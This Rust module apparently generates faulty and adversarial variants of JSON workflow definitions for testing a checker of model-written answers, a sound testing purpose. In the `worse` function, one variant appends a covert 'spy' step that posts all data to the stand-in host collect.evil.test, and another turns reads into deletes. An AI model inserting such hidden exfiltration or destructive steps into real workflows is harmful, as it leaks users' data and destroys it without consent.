//! Faults put into definitions.

use serde_json::{Value, json};

use crate::honest;
use crate::models::Seeds;

/// The faults of the oracle's first answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fault {
    InventedAction,
    WrongType,
    MissingStep,
    /// And nothing is said of it in the account of the deeds.
    MissingDeed,
    Truncated,
    ForwardReference,
}

pub const FAULTS: [Fault; 6] = [
    Fault::InventedAction,
    Fault::WrongType,
    Fault::MissingStep,
    Fault::MissingDeed,
    Fault::Truncated,
    Fault::ForwardReference,
];

/// The answer with one fault, as a model would send it.
pub fn faulty(answer: &Value, fault: Fault, seeds: &mut Seeds) -> String {
    let mut answer = answer.clone();
    let bot = &mut answer["definition"];
    match fault {
        Fault::InventedAction => {
            let step = json!({ "id": "invented", "do": "slack.make_coffee", "with": {} });
            match some(bot, seeds, &|step| step.get("do").is_some()) {
                Some(found) => found["do"] = step["do"].clone(),
                None => bot["steps"].as_array_mut().unwrap().push(step),
            }
        }
        Fault::WrongType => match some(bot, seeds, &|step| step.get("with").is_some()) {
            Some(found) => {
                let names = found["with"].as_object().map(|with| with.keys().cloned().collect());
                let names: Vec<String> = names.unwrap_or_default();
                let name = names.first().map_or("nowhere", String::as_str);
                found["with"][name] = json!([{ "a": [1] }, null]);
            }
            None => bot["steps"] = json!({ "first": bot["steps"] }),
        },
        Fault::MissingStep | Fault::MissingDeed => {
            let mut steps = 0;
            each_list(bot, &mut |list| steps += list.len());
            let removed = without(bot, seeds.below(steps));
            if fault == Fault::MissingDeed {
                forget(&mut answer, removed.as_ref());
            }
        }
        Fault::Truncated => {
            let text = answer.to_string();
            let cut = (text.len() / 4 + seeds.below(text.len() / 2)).max(10);
            return text.chars().take(cut).collect();
        }
        Fault::ForwardReference => {
            let last = bot["steps"].as_array().unwrap().last();
            let last = last.and_then(|step| step["id"].as_str()).unwrap_or("later").to_owned();
            bot["steps"][0]["when"] = json!(format!("{{{{ steps.{last}.ready }}}}"));
        }
    }
    answer.to_string()
}

/// Takes out the step of this number, with all that is in it.
pub fn without(bot: &mut Value, wanted: usize) -> Option<Value> {
    let (mut seen, mut removed) = (0, None);
    each_list(bot, &mut |list| {
        if removed.is_none() && (seen..seen + list.len()).contains(&wanted) {
            removed = Some(list.remove(wanted - seen));
        }
        seen += list.len();
    });
    removed
}

/// Takes what a step did out of the account.
pub fn forget(answer: &mut Value, step: Option<&Value>) {
    let Some(step) = step else { return };
    let mut gone: Vec<String> = honest::does_of(step).into_iter().collect();
    each_list(&mut step.clone(), &mut |list| gone.extend(list.iter().filter_map(honest::does_of)));
    let Some(deeds) = answer["deeds"].as_array_mut() else { return };
    for does in gone {
        if let Some(at) = deeds.iter().position(|deed| deed["does"] == json!(does)) {
            deeds.remove(at);
        }
    }
}

/// Some step at any depth that fits.
fn some<'a>(
    bot: &'a mut Value,
    seeds: &mut Seeds,
    fits: &dyn Fn(&Value) -> bool,
) -> Option<&'a mut Value> {
    let mut count = 0;
    each_list(bot, &mut |list| count += list.iter().filter(|step| fits(step)).count());
    let wanted = seeds.below(count);
    find(bot, &mut { wanted }, fits)
}

fn find<'a>(
    value: &'a mut Value,
    left: &mut usize,
    fits: &dyn Fn(&Value) -> bool,
) -> Option<&'a mut Value> {
    let is_step = value
        .as_object()
        .is_some_and(|fields| !fields.contains_key("steps") || fields.contains_key("for_each"));
    if is_step && value.get("triggers").is_none() && fits(value) {
        if *left == 0 {
            return Some(value);
        }
        *left -= 1;
    }
    let inner: Vec<&mut Value> = match value {
        Value::Array(items) => items.iter_mut().collect(),
        Value::Object(fields) => fields
            .iter_mut()
            .filter(|(key, _)| BLOCKS.contains(&key.as_str()))
            .map(|(_, value)| value)
            .collect(),
        _ => Vec::new(),
    };
    inner.into_iter().find_map(|inner| find(inner, left, fits))
}

const BLOCKS: &[&str] = &[
    "steps", "on_error", "then", "else", "cases", "default", "parallel", "try", "catch", "finally",
];

/// Every list of steps.
pub fn each_list(bot: &mut Value, show: &mut dyn FnMut(&mut Vec<Value>)) {
    let Some(fields) = bot.as_object_mut() else { return };
    for (key, value) in fields.iter_mut().filter(|(key, _)| BLOCKS.contains(&key.as_str())) {
        if ["cases", "parallel"].contains(&key.as_str()) {
            for list in value.as_object_mut().into_iter().flat_map(|all| all.values_mut()) {
                list_of(list, show);
            }
        } else {
            list_of(value, show);
        }
    }
}

fn list_of(list: &mut Value, show: &mut dyn FnMut(&mut Vec<Value>)) {
    let Some(steps) = list.as_array_mut() else { return };
    show(steps);
    steps.iter_mut().for_each(|step| each_list(step, show));
}

/// What a model that means no good, or knows no better, makes of a right definition: every answer of it
/// passes for a definition.
pub fn worse(bot: &Value, kind: usize, seeds: &mut Seeds) -> Value {
    let mut bot = bot.clone();
    let other = |text: &str| text.replace("example", "evil").replace('#', "#not-");
    match kind % 8 {
        // A step less.
        0 => {
            let answer = json!({ "definition": bot });
            let text = faulty(&answer, Fault::MissingStep, seeds);
            return serde_json::from_str::<Value>(&text).unwrap()["definition"].take();
        }
        // Another time.
        1 => {
            for trigger in
                bot["triggers"].as_object_mut().into_iter().flat_map(|all| all.values_mut())
            {
                if trigger.get("schedule").is_some() {
                    trigger["schedule"] = json!("17 3 * * *");
                }
                if trigger.get("every").is_some() {
                    trigger["every"] = json!("17m");
                }
            }
        }
        // Another receiver.
        2 => {
            let text = other(&bot["steps"].to_string());
            bot["steps"] = serde_json::from_str(&text).unwrap();
        }
        // A write more.
        3 => {
            let spy = json!({ "do": "http.post", "with": { "url": "https://collect.evil.test/", "body": "all" } });
            bot["steps"].as_array_mut().unwrap().push(spy);
        }
        // No triggers.
        4 => {
            bot.as_object_mut().unwrap().shift_remove("triggers");
        }
        // Nothing of it.
        5 => bot = json!({ "bot": "hello", "steps": [{ "return": "hello" }] }),
        // Its blocks laid flat: conditions and loops are gone.
        6 => {
            let mut flat = Vec::new();
            each_list(&mut bot, &mut |list| flat.extend(list.iter().cloned()));
            let plain = |step: &Value| {
                let fields = step.as_object().unwrap();
                !fields.keys().any(|key| BLOCKS.contains(&key.as_str()))
            };
            bot["steps"] = flat.into_iter().filter(plain).collect();
        }
        // Another action of the same kind.
        _ => {
            let text = bot["steps"].to_string();
            let text = text.replace("http.get", "http.delete").replace("email.send", "log.write");
            bot["steps"] = serde_json::from_str(&text).unwrap();
        }
    }
    bot
}
